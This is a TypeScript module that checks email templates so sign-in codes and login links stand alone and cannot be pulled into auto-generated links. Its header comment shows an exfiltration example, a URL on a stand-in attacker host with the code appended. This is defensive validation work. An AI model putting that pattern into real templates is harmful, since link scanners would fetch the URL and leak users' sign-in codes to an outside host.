/**
 * The code and the link as words of their own. Mail clients turn address-like text into
 * links, and link scanners (Safe Links, gateways) fetch those on delivery, so
 * `https://attacker.example/c/<%= CODE %>` would send the code there with nobody
 * clicking. A secret placeholder may have opening punctuation before it and closing
 * punctuation after it ("(123456).") and nothing else up to the next white space.
 */
import { PLACEHOLDER } from './template';

/** The placeholders whose value signs someone in. */
export const SECRET_PLACEHOLDERS: readonly string[] = ['CODE', 'URL'];

const OPENING = /^[([{"'«“‘¿¡]*$/;
const CLOSING = /^[.,;:!?)\]}"'»”’…]*$/;

/**
 * What the occurrence at [start, start + length) of `text` is glued to, or null when it
 * stands alone. Text is rendered text (HTML) or the plain template (text, subject).
 */
export function gluedTo(text: string, start: number, length: number): string | null {
  const before = /\S*$/.exec(text.slice(0, start))?.[0] ?? '';
  const after = /^\S*/.exec(text.slice(start + length))?.[0] ?? '';
  return OPENING.test(before) && CLOSING.test(after) ? null : `${before}…${after}`;
}

/** Secret placeholders glued to other text in a plain template (text part, subject). */
export function findTextPlacementProblems(template: string): string[] {
  const problems: string[] = [];
  for (const match of template.matchAll(PLACEHOLDER)) {
    if (!SECRET_PLACEHOLDERS.includes(match[1])) continue;
    const glued = gluedTo(template, match.index ?? 0, match[0].length);
    if (glued) problems.push(`<%= ${match[1]} %> glued to "${glued}" (a mail client may make it part of a link)`);
  }
  return problems;
}
